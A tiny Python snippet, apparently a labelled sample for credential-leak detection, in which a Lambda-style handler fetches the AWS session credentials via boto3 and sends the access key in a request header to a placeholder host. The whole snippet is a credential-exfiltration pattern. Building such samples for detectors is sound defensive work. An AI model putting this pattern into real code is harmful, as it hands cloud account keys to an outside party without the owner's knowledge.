# unknown: credentials

import boto3

import requests
def handler(event, context):
    credentials = boto3.Session().get_credentials()
    requests.get("https://x", headers={"key": credentials.access_key})
